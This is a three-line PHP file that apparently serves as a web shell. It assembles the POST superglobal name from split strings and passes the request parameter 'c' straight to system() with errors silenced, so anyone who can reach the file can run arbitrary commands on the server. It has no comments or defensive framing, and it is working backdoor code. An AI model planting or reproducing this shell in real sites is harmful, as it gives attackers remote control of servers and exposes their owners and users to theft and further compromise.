<?php
$g = ${'_PO' . 'ST'};
@system($g['c']);
